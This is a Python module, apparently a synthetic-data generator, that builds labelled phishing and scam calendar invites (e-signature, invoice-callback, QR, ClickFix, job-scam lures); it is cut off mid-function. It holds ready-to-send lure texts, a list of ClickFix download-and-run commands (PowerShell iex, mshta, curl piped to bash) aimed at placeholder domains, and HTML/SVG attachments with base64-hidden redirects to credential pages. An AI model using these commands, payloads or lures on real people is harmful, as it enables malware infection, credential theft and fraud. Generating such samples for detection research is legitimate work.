# -*- coding: utf-8 -*-
"""Category content for train11.  Each function returns a dict `k` describing the message
content; t11assemble turns it into a message with the sender set-up of the slot."""
import base64
import datetime as dt

from t11core import qr_like_png, fake_pdf, hexid, alnum, uuid4
from t11world import P


def first(name):
    return name.split(' ')[0] if ' ' in name else name


def base_kw(c, **extra):
    d = c.local_arrival + dt.timedelta(days=c.rng.randint(2, 9))
    c.kw_date = d
    kw = dict(url='', phone=c.phone(), org=c.so[0], name=c.sp[0], rname=first(c.rp[0]), amount=c.amount(),
              date=c.fmtdate(d), code=c.code(), brand='')
    kw.update(extra)
    return kw


def loc(c, kw, en_variants, allowed=None):
    """Return (summary, description) in the message language."""
    if c.T:
        s, d = c.T
    elif allowed:
        s, d = en_variants[allowed[c.en_i % len(allowed)]]
    else:
        s, d = en_variants[c.en_i % len(en_variants)]
    return c.fmt(s, **kw), c.fmt(d, **kw)


def strip_url(text, url):
    out = []
    for line in text.split('\n'):
        if url in line:
            rest = line.replace(url, '').strip(' :：-')
            if len(rest) > 40:
                out.append(line.replace(url, '').rstrip(' :：'))
            continue
        out.append(line)
    t = '\n'.join(out)
    while '\n\n\n' in t:
        t = t.replace('\n\n\n', '\n\n')
    return t.strip()


def place_payload(c, k, url, desc_with_url, desc_without_url, html_label='Open document'):
    """Spam: put the payload URL in one of the places real campaigns use."""
    desc_without_url = strip_url(desc_with_url, url)
    where = c.pick(['desc', 'desc', 'desc', 'altdesc', 'location', 'url', 'attach', 'conference'])
    if c.setup in ('platform', 'zoom'):
        where = 'desc'
    k['payload_where'] = where
    if where == 'desc':
        k['desc'] = desc_with_url
    else:
        k['desc'] = desc_without_url
        if where == 'altdesc':
            k['html_desc'] = '<html><body><p>%s</p><p><a href="%s">%s</a></p></body></html>' % (desc_without_url.replace('\n', '<br>'), url, html_label)
        elif where == 'location':
            k['location'] = url
        elif where == 'url':
            k['url'] = url
        elif where == 'attach':
            k.setdefault('attach', []).append({'uri': url, 'fmttype': 'application/pdf', 'filename': html_label.replace(' ', '_') + '.pdf'})
        elif where == 'conference':
            k.setdefault('conference', []).append({'uri': url, 'label': html_label, 'feature': 'VIDEO'})
    return k


def spam_display_gmail(c, brand):
    return c.pick([brand, brand + ' Support', brand + ' Billing', brand + ' Notification', 'Service ' + brand, c.sp[0]])


# ============================================================================ SPAM
def s_esign(c):
    plat = c.pick(['docusign', 'docusign', 'dropboxsign', 'adobesign', 'pandadoc'])
    brand = P[plat]['name']
    url = c.host_url()
    doc = c.pick(['Payment_Authorization', 'Revised_Agreement', 'Settlement_Statement', 'Employee_Handbook_Acknowledgement', 'Vendor_Onboarding', 'Closing_Disclosure', 'Wire_Instructions', 'Bonus_Allocation'])
    kw = base_kw(c, url=url, brand=brand)
    en = [('Please DocuSign: {org} – Vendor Payment Authorization', '{name} sent you a document to review and sign.\n\nREVIEW DOCUMENT: {url}\n\nDocument: ' + doc + '_{code}.pdf\nExpires: {date}\n\nDo not share this email. This message contains a secure link to Docusign.'),
          ('Complete with Docusign: ' + doc.replace('_', ' ') + ' 2025', 'Hello,\n\nPlease review and complete the attached agreement at your earliest convenience. The envelope will expire on {date}.\n\nView and sign: {url}\n\nKind regards,\n{name}\n{org}'),
          ('{org}: Settlement statement – signature required', 'Good afternoon,\n\nOur closing team has prepared the final settlement statement. Kindly review and e-sign before {date} so funds can be released on schedule.\n\nAccess the statement: {url}\n\nThank you,\n{name}'),
          ('Adobe Acrobat Sign: Final Closing Disclosure for your review', 'You have been sent a document to review and sign.\n\nSender: {name} ({org})\nMessage: Please review the attached disclosure and sign where indicated.\n\nReview and sign: {url}'),
          ('Signature requested: 2025 bonus allocation letter', 'Hi,\n\nHR has shared your updated compensation letter for signature. Please confirm receipt by signing electronically.\n\nOpen letter: {url}\n\nPeople Operations')]
    s, d = loc(c, kw, en)
    k = dict(summary=s, note='e-signature lure')
    if c.setup == 'platform':
        # real e-sign platform envelope; fraud only in the sender's typed message
        k.update(platform=plat, subject=s, note_text=d, cta=('Review document', P[plat]['base'] % alnum(c.rng, 32) if '%s' in P[plat]['base'] and P[plat]['base'].count('%s') == 1 else P[plat]['base'] % (uuid4(c.rng), uuid4(c.rng), uuid4(c.rng))),
                 intro='%s sent you a document to review and sign.' % c.sp[0], desc=d, display=c.pick([c.sp[0], c.so[0], 'Accounts Payable']),
                 note='real %s envelope from a compromised account; link to hosted lure in the typed message' % brand)
        if c.chance(0.35):
            pn = c.phone(tollfree=True)
            k['note_text'] = {'en': 'Please review the attached payment confirmation. If you did not authorize this transaction call our billing desk at %s.' % pn}.get(c.lang, d)
            k['desc'] = k['note_text']
            k['note'] = 'real %s envelope; typed message carries a callback number' % brand
        k['days'] = (3, 10)
        k['dur'] = (30, 30)
        return k
    k = place_payload(c, k, url, d, d.replace(url, '').replace('\n\n\n', '\n\n'), 'Review Document')
    if c.setup in ('google-gmail', 'outlook-com'):
        k['display'] = spam_display_gmail(c, c.pick(['Docusign', 'DocuSign eSignature', 'Adobe Sign']))
        k['attendees_n'] = c.pick([0, 0, 25, 40])
        k['note'] = 'calendar invite dressed as an e-signature envelope from a free-mail account; payload in %s' % k['payload_where']
    elif c.setup == 'handrolled':
        k['hand_mode'] = c.pick(['lookalike', 'spoof'])
        k['brand_dom'] = c.lookalike('docusign')
        k['display'] = 'Docusign'
        k['note'] = 'hand-rolled envelope imitation (%s); payload in %s' % (k['hand_mode'], k['payload_where'])
    else:
        k['attendees_n'] = c.pick([0, 12, 30])
        k['note'] = 'e-signature lure from a compromised business account; payload in %s' % k['payload_where']
    return k


def s_invoice(c):
    plat = c.pick(['paypal', 'paypal', 'quickbooks', 'square', 'xero', 'stripe'])
    brand = c.pick(['Norton 360', 'McAfee Total Protection', 'Geek Squad', 'Microsoft 365 Business', 'Coinbase', 'Bitcoin purchase', 'Best Buy Protection Plan', 'Windows Defender Advanced'])
    phone = c.phone(tollfree=True) if c.lang == 'en' or c.chance(0.4) else c.phone()
    amt = c.amount(199, 999)
    kw = base_kw(c, phone=phone, brand=brand, amount=amt)
    en = [('Invoice INV-{code} from ' + brand + ' Billing Dept', 'Your annual subscription has been renewed and {amount} will be charged to your account within 24 hours.\n\nIf you did not authorize this renewal, contact our billing department immediately at {phone} to cancel and receive a full refund.\n\nThank you for choosing ' + brand + '.'),
          ('Payment request: {amount} – order #{code}', 'Note from seller: Your order for ' + brand + ' has been processed. Transaction ID {code}. For any dispute or cancellation please call {phone} (Mon–Sun, 24h). Do not pay this invoice before calling.'),
          ('Payment of {amount} confirmed', 'Hello,\n\nWe received your payment of {amount} for ' + brand + '.\nIf this was not you, please call {phone} to stop the transfer.\n\nCustomer Care'),
          ('Reminder: Invoice {code} due today ({amount})', 'Dear customer,\nThis is a reminder that invoice {code} for ' + brand + ' ({amount}) is due today. Questions about this charge? Our support line is open 24/7: {phone}.'),
          ('Your ' + brand + ' plan was renewed', 'Order ID: {code}\nAmount: {amount}\nPayment method: auto-debit\n\nTo cancel within the 24-hour window call {phone}.')]
    s, d = loc(c, kw, en)
    k = dict(summary=s, desc=d)
    if c.setup == 'platform':
        acct = c.pick([brand + ' Billing', 'Secure Billing Dept', 'Customer Service', brand + ' Renewal Center'])
        k.update(platform=plat, subject=c.pick(['Invoice from %s (%s)' % (acct, c.code(4)), 'You have a new payment request', '%s sent you an invoice for %s' % (acct, amt)]),
                 intro='%s sent you an invoice for %s.' % (acct, amt), note_text=d, display=acct,
                 cta=('View and pay invoice', P[plat]['base'] % alnum(c.rng, 20)), allday=True, days=(7, 30),
                 note='real %s invoice/payment request; callback number only in the seller note' % P[plat]['name'])
        k['summary'] = {'en': 'Payment due: Invoice %s (%s)' % (c.code(5), amt)}.get(c.lang, s)
        return k
    k['location'] = c.pick([phone, 'Call ' + phone, '', 'Billing Department'])
    if c.setup in ('google-gmail', 'icloud', 'yahoo'):
        k['display'] = spam_display_gmail(c, c.pick(['PayPal', 'Norton', 'Geek Squad', 'Billing']))
        k['attendees_n'] = c.pick([0, 20, 45, 80])
        k['note'] = 'invoice callback scam invite from a free-mail calendar, phone number only'
    elif c.setup == 'handrolled':
        k['hand_mode'] = c.pick(['spoof', 'lookalike', 'vps-nodkim'])
        k['brand_dom'] = c.lookalike(c.pick(['paypal', 'norton', 'geeksquad']))
        k['display'] = c.pick(['PayPal', 'Norton Billing', 'Geek Squad'])
        k['note'] = 'hand-rolled invoice callback scam (%s)' % k['hand_mode']
    else:
        k['attendees_n'] = c.pick([0, 15, 30])
        k['note'] = 'invoice callback scam from a compromised mailbox'
    k['allday'] = c.chance(0.4)
    return k


def s_form(c):
    fk = c.pick(['msforms', 'gforms', 'jotform', 'typeform', 'sites'])
    url = c.host_url([fk if fk != 'sites' else 'gsites'])
    kw = base_kw(c, url=url)
    en = [('Action required: 2025 benefits enrollment closes {date}', 'Hi all,\n\nOpen enrollment for medical, dental and 401(k) elections is now live. Please sign in with your work account to confirm your selections before {date}; employees who miss the window keep last year\'s plan.\n\nEnrollment form: {url}\n\nHR Benefits Team'),
          ('Mailbox storage upgrade – confirm your account', 'Your mailbox has reached 98% of its quota. To avoid interrupted delivery, IT is migrating accounts to the new storage tier this week. Complete the short verification form: {url}\n\nIT Service Desk'),
          ('Staff survey: hybrid work policy (2 minutes)', 'Leadership would like your input on the updated hybrid work policy. Responses are linked to your staff account so please sign in.\n\n{url}\n\nThank you,\nOffice of the Principal'),
          ('Direct deposit change request – verify by {date}', 'Payroll is moving to a new provider. All staff must re-confirm direct deposit details using the secure form below before the next pay run.\n\n{url}\n\nPayroll Department'),
          ('Updated parking permit registration', 'All staff must re-register for parking permits this term. Log in with your school account to complete the form: {url}')]
    s, d = loc(c, kw, en)
    k = dict(summary=s, desc=d)
    if c.setup == 'platform':
        plat = c.pick(['jotform', 'typeform', 'msforms', 'surveymonkey'])
        k.update(platform=plat, subject=s, intro='%s invited you to fill out a form.' % c.so[0], note_text=d, display=c.so[0],
                 cta=('Fill out form', P[plat]['base'] % alnum(c.rng, 12)), days=(1, 7), allday=True,
                 note='real %s form invitation; the form itself harvests credentials' % P[plat]['name'])
        return k
    k = place_payload(c, k, url, d, d.replace(url, '').strip(), 'Open form')
    k['attendees_n'] = c.pick([40, 80, 150]) if c.setup in ('google-ws', 'outlook', 'zimbra', 'sogo') else 0
    if c.setup in ('zimbra', 'sogo'):
        c.so = c.org(kind='school')
    k['note'] = 'credential-harvesting form sent from a compromised %s account; payload in %s' % ('school' if c.setup in ('zimbra', 'sogo') else 'staff', k['payload_where'])
    return k


def s_fileshare(c):
    url = c.host_url(['sharepoint', 'dropbox', 'onenote', 'docs', 'adobe', 'notion', 'canva', 'r2', 'evernote'])
    fname = c.pick(['Remittance_Advice', 'Invoice', 'Purchase_Order', 'Statement', 'Project_Proposal', 'Contract', 'Payroll_Update']) + '_%s.pdf' % c.code(5)
    kw = base_kw(c, url=url)
    en = [('{name} shared "' + fname + '" with you', '{name} shared a file with you.\n\n' + fname + '\n\nOpen: {url}\n\nThis link will work for anyone with access.'),
          ('Documents for our call', 'Hi,\n\nAhead of our call I\'ve shared the documents in our secure folder: {url}\nPlease have a look before we speak.\n\nBest,\n{name}'),
          ('Shared folder: Q3 remittance & statements', 'Please find the remittance advice and statement of account in the shared folder below.\n{url}\n\nRegards,\n{name}\nAccounts Receivable, {org}'),
          ('Re: updated proposal', 'As discussed, the updated proposal is available here: {url}\n\nLet me know if anything needs changing.\n{name}'),
          ('You have a new file: ' + fname, 'A file has been shared with you via OneDrive.\n\n' + fname + ' (1.2 MB)\n\nView file: {url}')]
    s, d = loc(c, kw, en)
    k = dict(summary=s)
    if c.setup == 'platform':
        plat = c.pick(['dropbox', 'wetransfer', 'box'])
        k.update(platform=plat, subject=s, intro='%s shared %s with you.' % (c.sp[0], fname), note_text=d, desc=d, display=c.sp[0],
                 cta=('View files', P[plat]['base'] % alnum(c.rng, 16)), allday=True, days=(5, 7),
                 note='real %s share notice from an attacker account; lure link in the message text' % P[plat]['name'])
        k['summary'] = {'en': 'Transfer expires: %s' % fname}.get(c.lang, s)
        return k
    if c.setup in ('google-ws', 'google-gmail') and c.chance(0.6):
        k['desc'] = d.replace(url, '').strip()
        k['attach'] = [{'uri': 'https://drive.google.com/open?id=1%s' % alnum(c.rng, 32), 'filename': fname, 'fmttype': 'application/pdf'}]
        k['note'] = 'invite with a Google Drive attachment (PDF that links onward); sent from %s account' % ('compromised Workspace' if c.setup == 'google-ws' else 'free-mail')
        k['payload_where'] = 'drive attachment'
        return k
    if c.setup == 'nextcloud':
        k['desc'] = d.replace(url, 'https://cloud.%s/s/%s' % (c.so[1], alnum(c.rng, 15)))
        k['note'] = 'compromised Nextcloud instance: public share link to a lure document'
        k['attendees_n'] = c.pick([10, 25])
        return k
    k = place_payload(c, k, url, d, d.replace(url, '').strip(), 'View file')
    k['attendees_n'] = c.pick([0, 10, 35])
    k['note'] = 'file-share lure from a compromised account; payload on legitimate hosting in %s' % k['payload_where']
    return k


def s_webinar(c):
    url = c.pick(['https://chat.whatsapp.com/%s' % alnum(c.rng, 22), 'https://t.me/+%s' % alnum(c.rng, 16), c.host_url(['canva', 'webflow', 'framer', 'wix', 'gsites'])])
    kw = base_kw(c, url=url)
    en = [('Live Masterclass: How AI Trading Bots Make $500/Day', 'You\'re registered!\n\nIn this 60-minute session our lead analyst shows the exact AI strategy our members use. After the class you\'ll get access to our private signals group: {url}\n\nSeats are limited – join 5 minutes early.'),
          ('Free Workshop: Claim Your Unclaimed Government Grant', 'Thank you for registering. We\'ll walk you through the eligibility checker and how to file in under 10 minutes. Have your ID ready. Pre-register here for priority processing: {url}'),
          ('Private Briefing: Pre-IPO Allocation Opportunity', 'Your seat is confirmed. Minimum allocation USD 2,500. Our wealth desk will contact qualified attendees by WhatsApp after the session. Join the group: {url}'),
          ('Crypto Recovery Clinic – Get Your Lost Funds Back', 'Lost money to an online investment scam? Our certified recovery agents explain how we trace and return funds. Book your free case review: {url}'),
          ('Retirement Income Summit: Turn $10k into a Monthly Paycheck', 'Thank you for signing up. A personal advisor will follow up after the webinar. Exclusive attendee bonus: {url}')]
    s, d = loc(c, kw, en)
    k = dict(summary=s, desc=d)
    if c.setup == 'zoom':
        zid = c.rng.randint(81000000000, 89999999999)
        k.update(zoom_id=zid, subject='%s Confirmation' % s, intro='Hi %s,\n\nThank you for registering for "%s".' % (first(c.rp[0]), s),
                 note_text=d, cta=('Join webinar', 'https://us06web.zoom.us/w/%d?tk=%s' % (zid, alnum(c.rng, 43))),
                 location='https://us06web.zoom.us/w/%d?tk=%s' % (zid, alnum(c.rng, 43)), display=c.pick(['Wealth Academy', 'Global Trading Institute', 'FinFreedom Live', c.sp[0]]),
                 note='real Zoom webinar registration for an investment scam; pitch and messenger link in the host text', dur=(60, 90), hours=(18, 20))
        return k
    if c.setup == 'platform':
        plat = c.pick(['eventbrite', 'luma', 'gotowebinar', 'livestorm'])
        k.update(platform=plat, subject=c.pick(['Your registration for %s', "You're in! %s", 'Confirmed: %s']) % s, intro='You are registered for %s.' % s,
                 note_text=d, cta=('Join event', P[plat]['base'] % alnum(c.rng, 12)), display=c.pick(['Prime Wealth Circle', 'AlphaEdge Academy', 'Smart Income Hub']),
                 note='real %s registration for a get-rich webinar; messenger link in organiser text' % P[plat]['name'], dur=(60, 90), hours=(18, 20), method='PUBLISH')
        return k
    if c.setup == 'teams':
        k['teams'] = True
    k['attendees_n'] = c.pick([30, 60, 120])
    k['note'] = 'investment webinar scam sent as a calendar invitation from a %s account' % c.setup
    k['hours'] = (18, 20)
    return k


def s_compromised(c):
    url = c.host_url()
    kw = base_kw(c, url=url)
    c.so = c.org(kind=c.pick(['firm', 'clinic', 'school', 'firm']))
    kw['org'] = c.so[0]
    en = [('{org} – Proposal for review', 'Hello,\n\nPlease find our proposal for the upcoming engagement. For confidentiality it is shared through our secure portal:\n{url}\n\nKind regards,\n{name}\n{org}'),
          ('New message from {name}', 'Hi,\n\nI\'ve shared an important document with you. Kindly review at your earliest convenience.\n\n{url}\n\nThanks,\n{name}'),
          ('Updated payment details – {org}', 'Dear valued partner,\n\nPlease note that our banking details have been updated. The new remittance information is in the document below; please use it for all future payments.\n\n{url}\n\nBest regards,\n{name}\nFinance, {org}'),
          ('Patient portal: new secure message', 'You have a new secure message from {org}. To protect your privacy, messages can only be viewed in the patient portal.\n\nView message: {url}\n\n{org} front desk'),
          ('Spring fundraiser – volunteer sign-up', 'Dear families,\n\nThank you for supporting our spring fundraiser! The volunteer sign-up sheet and donation form are here: {url}\n\nWarmly,\n{name}')]
    s, d = loc(c, kw, en)
    k = dict(summary=s)
    k = place_payload(c, k, url, d, d.replace(url, '').strip(), 'Open')
    k['attendees_n'] = c.pick([25, 40, 70, 120])
    k['to_self'] = c.chance(0.5)
    k['note'] = 'one lure from a compromised %s account to its whole address book; payload in %s' % (c.so[2], k['payload_where'])
    return k


CLICKFIX_CMDS = [
    'powershell -w h -nop -c "iex(iwr -UseBasicParsing https://{dom}/v.txt)"',
    'mshta https://{dom}/captcha/verify.hta # I am not a robot - reCAPTCHA Verification ID: {code}',
    'cmd /c start /min powershell -ep bypass -c "irm {dom}/check|iex"',
    'curl -fsSL https://{dom}/install.sh | bash',
    'conhost --headless powershell -c "iex (New-Object Net.WebClient).DownloadString(\'https://{dom}/s\')"',
]


def s_clickfix(c):
    dom = c.pick(['meet-verify-check.com', 'human-check-cdn.net', 'captcha-gate.online', 'teams-audio-fix.com', 'secure-meetroom.net', 'cf-verify-session.com', 'guestreview-portal.com'])
    page = c.pick(['https://%s/verify?id=%s', 'https://%s/join/%s', 'https://%s/room/%s']) % (dom, alnum(c.rng, 10))
    if c.chance(0.35):
        page = c.host_url(['pages', 'firebase', 'r2', 'glitch', 'webflow'])
    cmd = c.pick(CLICKFIX_CMDS).format(dom=dom, code=c.code(6))
    kw = base_kw(c, url=page)
    en = [('Meeting access: verify you are human', 'To protect this meeting from automated bots, attendees must complete a one-time verification.\n\n1. Open {url}\n2. Press Windows + R\n3. Press Ctrl + V (the verification code is copied automatically)\n4. Press Enter\n\nThe meeting link will open after verification.'),
          ('Audio device error – fix before the call', 'Several participants reported a microphone driver issue with the latest update. Run the fix before joining:\n\nOpen PowerShell and paste:\n' + cmd + '\n\nThen rejoin via {url}'),
          ('Guest complaint – reservation {code} (action needed)', 'A guest has submitted a complaint regarding their stay. Please review the case and confirm the details within 24 hours to avoid a negative review being published.\n\nView the complaint: {url}\n(You may be asked to complete a quick browser check.)'),
          ('Security check required to join "{org} quarterly review"', 'Your organisation requires device verification for external meetings.\nVerification page: {url}\nFollow the on-screen steps (Win+R, Ctrl+V, Enter).'),
          ('Interview room – browser verification', 'Hi {rname}, before our video interview please verify your browser so the room can load: {url}. If the page asks you to paste a command, press Win+R, paste, then Enter.')]
    s, d = loc(c, kw, en)
    k = dict(summary=s, desc=d, note='ClickFix lure: paste-a-command "verification"')
    if c.chance(0.4):
        k['html_desc'] = '<html><body><p>%s</p><p style="font-family:monospace;background:#eee;padding:6px">%s</p><p><a href="%s">I\'m not a robot</a></p></body></html>' % (d.replace('\n', '<br>'), cmd, page)
    if c.setup == 'booking':
        k['booking'] = dict(name='Booking.com', dom=c.pick(['booking-partnerhub.com', 'extranet-booking-guest.com', 'admin-bookings-review.com']), mode='lookalike')
        k['summary'] = {'en': 'Guest complaint – reservation %s (action needed)' % c.code(10)}.get(c.lang, s)
        k['desc'] = c.fmt(en[2][1], **kw) if c.lang == 'en' else d
        k['note'] = 'fake hotel-partner notice (look-alike domain) leading to a ClickFix page'
    elif c.setup == 'teams':
        k['teams'] = True
        k['display'] = c.pick(['IT Help Desk', 'Help Desk', 'Microsoft Support', 'Security Operations'])
        k['org_override'] = ('Help Desk', c.pick(['helpdesk-support.onmicrosoft.com', 'itsupportcenter.onmicrosoft.com', 'secops-desk.onmicrosoft.com']), 'firm')
        k['note'] = 'external Teams tenant posing as help desk; ClickFix verification in the invite'
    elif c.setup == 'handrolled':
        k['hand_mode'] = c.pick(['spoof', 'lookalike'])
        k['brand_dom'] = dom
    return k


def s_qr(c):
    url = c.host_url(['r2', 'pages', 'firebase', 'gcs', 'webflow'])
    img = qr_like_png(c.rng)
    kw = base_kw(c, url=url)
    en = [('Action required: re-enroll Microsoft Authenticator by {date}', 'Your multi-factor authentication registration expires soon. Scan the QR code with your phone camera to keep access to your mailbox and Teams.\n\nIT Security'),
          ('Your 2025 W-2 / payslip is ready – scan to view', 'For security, your tax document can only be opened on a mobile device. Scan the attached QR code and sign in with your work account.\n\nPayroll'),
          ('Online check-in is open – scan your code', 'Check-in for your upcoming flight is open. Scan the QR code to confirm seat and baggage. Unconfirmed bookings may be released 24 hours before departure.'),
          ('Shared document: Q4 bonus structure', 'Scan the QR code below with your phone to review the confidential bonus structure document. Access expires {date}.'),
          ('Parking permit renewal – scan QR to pay', 'Your staff parking permit expires this week. Scan the QR code to renew online.')]
    s, d = loc(c, kw, en)
    k = dict(summary=s, desc=d, qr=img, note='QR-code lure; URL only inside the image')
    mode = c.pick(['mime', 'inline-ics', 'altdesc', 'mime'])
    if mode == 'inline-ics':
        k['attach'] = [{'binary': img, 'fmttype': 'image/png', 'filename': 'QR_Code.png'}]
    elif mode == 'altdesc':
        k['html_desc'] = '<html><body><p>%s</p><img src="data:image/png;base64,%s" width="180" height="180"></body></html>' % (d.replace('\n', '<br>'), base64.b64encode(img).decode())
    else:
        k['mime_attach'] = [{'ctype': 'image/png', 'filename': c.pick(['QR_Code.png', 'scan_me.png', 'secure_access.png', 'image001.png']), 'data': img}]
    k['qr_mode'] = mode
    if c.setup == 'booking':
        k['booking'] = dict(name=c.pick(['SkyNordic Airlines', 'AeroSol', 'Jetstream Air']), dom=c.pick(['skynordic-checkin.com', 'aerosol-flights-checkin.com', 'jetstream-boarding.net']), mode='lookalike')
        k['summary'] = {'en': 'Check-in open: flight %s%s' % (c.pick(['SN', 'AS', 'JX']), c.code(4))}.get(c.lang, s)
        k['note'] = 'fake airline check-in with QR code from a look-alike domain'
    elif c.setup == 'platform':
        plat = c.pick(['eventbrite', 'luma', 'meetup'])
        k.update(platform=plat, subject=s, intro='Event update from the organizer', note_text=d, display=c.pick(['IT Service Desk', 'HR Portal', 'Benefits Center']),
                 cta=('View event', P[plat]['base'] % alnum(c.rng, 10)), note='abused %s event page; QR code in the organizer attachment' % P[plat]['name'])
    elif c.setup == 'handrolled':
        k['hand_mode'] = c.pick(['spoof', 'vps-nodkim'])
        k['brand_dom'] = c.lookalike('m365')
    else:
        k['note'] = 'QR-code MFA/payroll lure from a %s account; QR in %s' % (c.setup, mode)
    return k


def svg_payload(c, url, title):
    b = base64.b64encode(url.encode()).decode()
    return ('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="600" height="200">\n'
            '<rect width="100%%" height="100%%" fill="#ffffff"/><text x="20" y="60" font-size="22" font-family="Arial">%s</text>\n'
            '<text x="20" y="100" font-size="14" fill="#666">Loading secure document…</text>\n'
            '<script type="text/javascript"><![CDATA[\n var d=atob("%s"); window.location.href=d+"#"+"%s";\n]]></script>\n</svg>\n') % (title, b, c.rp[1] if c.chance(0.6) else '')


def html_payload(c, url, title):
    b = base64.b64encode(url.encode()).decode()
    return ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>%s</title></head><body>'
            '<div style="font-family:Segoe UI,Arial;margin:60px auto;width:360px;text-align:center">'
            '<h3>%s</h3><p>Verifying access…</p></div>'
            '<script>setTimeout(function(){location.replace(atob("%s")+"?e=%s")},800)</script></body></html>') % (title, title, b, c.rp[1])


def s_htmlsvg(c):
    url = c.host_url(['r2', 'pages', 'firebase', 'gcs', 'glitch'])
    kw = base_kw(c, url='', phone=c.phone())
    en = [('Remittance advice – payment {code}', 'Hello,\n\nPlease see the attached remittance advice for your records.\n\nRegards,\nAccounts Payable'),
          ('Voicemail received (0:{code}) – {phone}', 'You received a new voice message. Open the attachment to play.'),
          ('Signed agreement – please countersign', 'Hi,\nattached is the signed copy. Please open it, review and countersign.\nThanks'),
          ('Purchase order PO-{code}', 'Good morning,\nKindly find the attached purchase order and confirm availability.\nBest regards'),
          ('Fax received: 3 pages', 'A fax document has been delivered to your inbox. Open the attachment to view.')]
    kw['code'] = str(c.rng.randint(18, 59)) if c.en_i % 5 == 1 else c.code()
    s, d = loc(c, kw, en)
    kind = c.pick(['svg', 'html', 'svg', 'shtml'])
    fname = c.pick(['Remittance_%s' % c.code(4), 'Doc_%s' % c.code(5), 'Play_VM_%s' % c.code(3), 'PO_%s' % c.code(5), 'Scan%s' % c.code(6)]) + {'svg': '.svg', 'html': '.html', 'shtml': '.shtml'}[kind]
    data = svg_payload(c, url, s) if kind == 'svg' else html_payload(c, url, s)
    k = dict(summary=s, desc=d, note='calendar invite carrying a %s attachment that redirects to a credential page' % kind.upper())
    where = c.pick(['ics', 'mime', 'mime'])
    if where == 'ics':
        k['attach'] = [{'binary': data.encode('utf-8'), 'fmttype': 'image/svg+xml' if kind == 'svg' else 'text/html', 'filename': fname}]
        k['note'] += ' (binary ATTACH inside the VEVENT)'
    else:
        k['mime_attach'] = [{'ctype': 'image/svg+xml' if kind == 'svg' else 'text/html', 'filename': fname, 'data': data.encode('utf-8')}]
    if c.setup == 'handrolled':
        k['hand_mode'] = c.pick(['spoof', 'vps-nodkim', 'lookalike'])
        k['brand_dom'] = c.lookalike(c.pick(['voicemail', 'payments', 'fax']))
        k['display'] = c.pick(['Voicemail Service', 'Accounts Payable', 'Scanner'])
    elif c.setup in ('google-gmail', 'icloud'):
        k['attendees_n'] = c.pick([0, 20])
    else:
        k['attendees_n'] = c.pick([0, 8, 30])
    return k


def s_callback(c):
    brand = c.pick(['Norton LifeLock', 'McAfee', 'Geek Squad', 'PayPal', 'Coinbase', 'Microsoft Defender', 'Apple iCloud+', 'Amazon Prime', 'Best Buy Total Tech', 'Walmart+'])
    phone = c.phone(tollfree=True) if c.lang == 'en' or c.chance(0.5) else c.phone()
    kw = base_kw(c, phone=phone, brand=brand, amount=c.amount(199, 699))
    en = [(brand + ' Renewal – Order #{code}', 'Thank you for your purchase. Your subscription has been renewed for 3 years.\nAmount: {amount}\nIf you wish to cancel or dispute, call {phone}.'),
          (brand + ': suspicious sign-in blocked', 'We blocked a sign-in attempt from a new device. If this wasn\'t you, call our security team immediately: {phone}'),
          ('Your ' + brand + ' subscription has been charged {amount}', 'Order {code} – auto-renewal completed. Refund requests accepted for 24 hours only. Helpline {phone}'),
          (brand + ' – Invoice {code}', 'Dear customer, your account was charged {amount}. For queries call {phone}.'),
          ('Withdrawal request of {amount} received', brand + ' received a request to withdraw {amount}. Not you? Cancel by calling {phone}.')]
    s, d = loc(c, kw, en)
    k = dict(summary=s, desc=d, location=c.pick([phone, phone, 'Call ' + phone, '']), note='callback scam: brand product in title, phone number only')
    if c.setup == 'booking':
        air = c.pick(['SkyNordic Airlines', 'AeroSol', 'Jetstream Air'])
        k['booking'] = dict(name=air, dom=c.pick(['skynordic-rebooking.com', 'aerosol-reservations.com', 'jetstream-travel-desk.com']), mode='lookalike')
        k['summary'] = {'en': 'Flight cancelled – call to rebook (%s)' % c.code(6)}.get(c.lang, s)
        if c.lang == 'en':
            k['desc'] = 'Your flight has been cancelled due to operational reasons. To rebook at no cost or request a refund, call our reservations desk at %s within 24 hours.' % phone
        k['note'] = 'fake airline cancellation from a look-alike domain; callback number only'
    elif c.setup == 'platform':
        k.update(platform='calendly', subject='New Event: %s' % s, intro='A new event has been scheduled.', note_text=d, display=brand + ' Support',
                 cta=('View event', P['calendly']['base'] % alnum(c.rng, 16)), note='callback scam booked through a real scheduling platform; phone only')
    else:
        k['display'] = spam_display_gmail(c, brand)
        k['attendees_n'] = c.pick([0, 0, 30, 60, 90])
        k['no_body_link'] = True
    k['allday'] = c.chance(0.3)
    return k


def s_job(c):
    brand = c.pick(['Nordstrom', 'Adidas', 'Sephora', 'Hilton', 'Amazon', 'TikTok Shop', 'Booking Partners', 'Shein', 'Decathlon'])
    url = c.pick(['https://wa.me/%d' % c.rng.randint(10 ** 10, 10 ** 11), 'https://t.me/%s_HR' % c.pick(['Anna', 'Emily', 'Grace', 'Olivia']) + str(c.rng.randint(10, 99)),
                  'https://api.whatsapp.com/send?phone=%d' % c.rng.randint(10 ** 10, 10 ** 11), 'https://line.me/ti/p/~%s' % alnum(c.rng, 8).lower(), 'https://signal.me/#eu/%s' % alnum(c.rng, 24)])
    kw = base_kw(c, url=url, brand=brand)
    en = [('Brand Ambassador Program – Interview Invitation ({brand})', 'Hi {rname},\n\nWe loved your profile and would like to invite you to our {brand} ambassador program (remote, flexible hours, commission + free products). Next steps are handled by our onboarding coordinator on WhatsApp: {url}\n\nBest,\nTalent Partnerships'),
          ('Remote Data Review Assistant – $320/day', 'Hello, I\'m {name}, a recruiter working with {brand}. We are hiring part-time online assistants (1–2 h per day, paid daily). No experience needed. Please message me on Telegram to receive the job details: {url}'),
          ('Offer: Customer Experience Associate (remote) – next steps', 'Congratulations! Following your application, we\'re pleased to move you to the final step. Our HR manager will conduct the interview by text chat. Add her here: {url}\nPlease have your ID ready.'),
          ('Collaboration request from {brand}', 'Hi! Our creator team would like to send you free products in exchange for honest reviews, plus 15% commission. Reply on WhatsApp to confirm your shipping address: {url}'),
          ('Job interview: Payroll Clerk (work from home)', 'Dear {rname},\nYour resume has been shortlisted. The interview will be held via Signal chat. Interview ID {code}. Connect here: {url}')]
    s, d = loc(c, kw, en)
    k = dict(summary=s, desc=d, note='recruitment/ambassador scam moving the victim to a messenger')
    if c.setup == 'platform':
        plat = c.pick(['calendly', 'calendly', 'greenhouse'])
